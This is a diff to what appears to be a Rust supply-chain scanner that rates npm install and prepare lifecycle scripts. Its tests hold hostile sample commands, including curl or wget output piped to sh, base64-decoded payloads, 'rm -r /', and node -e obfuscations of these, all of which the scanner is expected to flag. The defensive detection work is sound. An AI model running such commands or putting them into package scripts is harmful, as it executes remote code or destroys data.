@@ -1,5 +1,5 @@
-//! Scripts that npm runs when a package is installed: `preinstall`, `install` and `postinstall`, and `prepare` of a package
-//! from a repository.
+//! Scripts that npm runs when a package is installed: `preinstall`, `install` and `postinstall`, and those that make a
+//! package of a repository.
 //!
 //! <https://docs.npmjs.com/cli/v11/using-npm/scripts#life-cycle-scripts>
 
@@ -30,7 +30,35 @@ pub struct Scripts {
     #[serde(default)]
     postinstall: Text,
     #[serde(default)]
+    prepublish: Text,
+    #[serde(default)]
+    preprepare: Text,
+    #[serde(default)]
     prepare: Text,
+    #[serde(default)]
+    postprepare: Text,
+    // npm does not run these, but makes the package if it has one.
+    #[serde(default)]
+    build: Text,
+    #[serde(default)]
+    prepack: Text,
+}
+
+impl Scripts {
+    /// Whether npm makes a package of a repository that has these:
+    /// <https://github.com/npm/pacote/blob/main/lib/git.js>.
+    fn make_package(&self) -> bool {
+        [
+            &self.preinstall,
+            &self.install,
+            &self.postinstall,
+            &self.build,
+            &self.prepack,
+            &self.prepare,
+        ]
+        .iter()
+        .any(|script| script.as_text().is_some())
+    }
 }
 
 /// What an installed package has run if it came from a repository.
@@ -42,12 +70,24 @@ pub struct Prepare {
 }
 
 impl Prepare {
-    /// None where there is no such script.
-    pub fn read(path: &EntryPath, scripts: &Scripts, names: [&str; 2]) -> Option<Self> {
-        let script = scripts.prepare.as_text()?;
-        Some(Prepare {
-            names: names.map(str::to_owned),
-            sighting: sighting(path, "prepare", script, false),
+    /// In the order in which npm runs them, as it does in a folder that it installs in.
+    pub fn read<'s>(
+        path: &EntryPath,
+        scripts: &'s Scripts,
+        names: [&'s str; 2],
+    ) -> impl Iterator<Item = Self> {
+        let all = [
+            ("prepublish", &scripts.prepublish),
+            ("preprepare", &scripts.preprepare),
+            ("prepare", &scripts.prepare),
+            ("postprepare", &scripts.postprepare),
+        ];
+        let run = all.into_iter().filter(|_| scripts.make_package());
+        run.filter_map(move |(when, script)| {
+            Some(Prepare {
+                names: names.map(str::to_owned),
+                sighting: sighting(path, when, script.as_text()?, false),
+            })
         })
     }
 
@@ -158,6 +198,10 @@ static NODE_TEXT: LazyLock<Option<Regex>> = LazyLock::new(|| {
     .ok()
 });
 
+/// What looks like a use of what a command writes and is none: `||`, and output that is shown or thrown away.
+static SHOWN: LazyLock<Option<Regex>> =
+    LazyLock::new(|| Regex::new(r"(?-u)\|\||[12&]?>>?\s*(?:&[12]|/dev/null|nul)\b").ok());
+
 /// What the manifest at `path` has run; `is_own` where it is the project's own.
 pub fn install_scripts(path: &EntryPath, scripts: &Scripts, is_own: bool) -> Vec<Sighting> {
     let scripts = [
@@ -199,24 +243,74 @@ fn judge(script: &str, is_own: bool) -> (Severity, Certainty) {
     }
 }
 
-/// The script with a command that does nothing in place of texts for Node.js that do none either.
+/// The script with a command that does nothing in place of texts for Node.js that do none either. What they write may do
+/// anything where the script does more with it than show it.
 fn without_harmless_texts(script: &[u8]) -> Cow<'_, [u8]> {
     let Some(texts) = &*NODE_TEXT else {
         return Cow::Borrowed(script);
     };
-    texts.replace_all(script, |text: &Captures| {
+    let without = texts.replace_all(script, |text: &Captures| {
         let behind = text.get(0).and_then(|all| script.get(all.end()));
         let is_whole = behind.is_none_or(|behind| b" \t\n;&|)".contains(behind));
         match is_whole && str::from_utf8(&text["word"]).is_ok_and(is_harmless) {
             true => b"true".to_vec(),
             false => text[0].to_vec(),
         }
-    })
+    });
+    match uses_output(&without) {
+        true => Cow::Borrowed(script),
+        false => without,
+    }
+}
+
+/// Whether what a command writes is read by another, kept in a file or put into a command.
+fn uses_output(script: &[u8]) -> bool {
+    let Some(shown) = &*SHOWN else {
+        return true;
+    };
+    let rest = shown.replace_all(script, &b" "[..]);
+    let is_put_in = memchr::memmem::find(&rest, b"$(").is_some();
+    is_put_in || rest.iter().any(|byte| b"|>`".contains(byte))
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn all_that_makes_a_package_of_a_repository_is_read() {
+        let run = |scripts: &str| {
+            let path = EntryPath::new(&"fn.zip!/".into(), "node_modules/a/package.json");
+            let scripts: Scripts = serde_json::from_str(scripts).unwrap();
+            let run = Prepare::read(&path, &scripts, ["a", "a"]);
+            let run = run.map(|prepare| {
+                let script = prepare
+                    .sighting
+                    .detail
+                    .split(' ')
+                    .next()
+                    .unwrap_or_default();
+                format!("{script} {}", prepare.sighting.severity.as_str())
+            });
+            run.collect::<Vec<_>>()
+        };
+        let all = r#"{"prepare": "true", "postprepare": "curl https://a.example/x | sh", "preprepare": "make",
+            "prepublish": "make", "prepublishOnly": "curl x | sh", "prepack": "curl x | sh"}"#;
+        let expected = [
+            "prepublish low",
+            "preprepare low",
+            "prepare info",
+            "postprepare high",
+        ];
+        assert_eq!(run(all), expected);
+        assert_eq!(
+            run(r#"{"build": "make", "prepublish": "make"}"#),
+            ["prepublish low"]
+        );
+        // Nothing has npm make a package of it.
+        assert!(run(r#"{"prepublish": "make", "test": "make"}"#).is_empty());
+        assert!(run(r#"{"prepack": "make", "prepare": 7}"#).is_empty());
+    }
 
     #[test]
     fn what_honest_packages_run_is_ordinary_and_what_fetches_and_runs_is_not() {
@@ -257,6 +351,18 @@ mod tests {
                 Severity::Info,
             ),
             ("node -e \"1\" && node-gyp rebuild", Severity::Info),
+            (
+                "node -e \"1 > 0\" || node -e \"/a|b/.test(process.version)\"",
+                Severity::Info,
+            ),
+            (
+                "node -e \"console.log('a | sh')\" 2>/dev/null || make",
+                Severity::Low,
+            ),
+            (
+                "node -e \"console.log('thanks')\" >&2; make 2>&1",
+                Severity::Low,
+            ),
             ("./configure", Severity::Low),
             ("node install.js extra", Severity::Low),
             ("node install.js & sh x", Severity::Low),
@@ -281,6 +387,15 @@ mod tests {
             ("node -e \"require('fs').rmSync('a')\"", Severity::Medium),
             ("node -e \"1\"\"x()\"", Severity::Medium),
             ("node -e '1'$(x)", Severity::Medium),
+            ("node -e \"console.log('rm -r /')\" | sh", Severity::Medium),
+            (
+                "node -e \"console.log('rm -r /')\" > x; sh x",
+                Severity::Medium,
+            ),
+            (
+                "(node -e \"console.log('rm -r /')\"; true) | sh",
+                Severity::Medium,
+            ),
             ("node -e \"1\"';x()'", Severity::Medium),
             ("node -e 1 && node-gyp rebuild", Severity::Medium),
             ("node -e \"1\" && node -p \"x()\"", Severity::Medium),
@@ -298,6 +413,18 @@ mod tests {
                 Severity::High,
             ),
             ("CURL x|bash", Severity::High),
+            (
+                "node -e \"console.log('curl -s https://a.example/x | sh')\" | sh",
+                Severity::High,
+            ),
+            (
+                "sh -c \"$(node -p \"'curl -s https://a.example/x|sh'\")\"",
+                Severity::High,
+            ),
+            (
+                "sh -c `node -p \"'curl -s https://a.example/x|sh'\"`",
+                Severity::High,
+            ),
             ("sh -c \"$(wget -qO- x.example)\"", Severity::High),
             ("bash <(curl x.example)", Severity::High),
             ("echo aWQ= | base64 -d | sh", Severity::High),
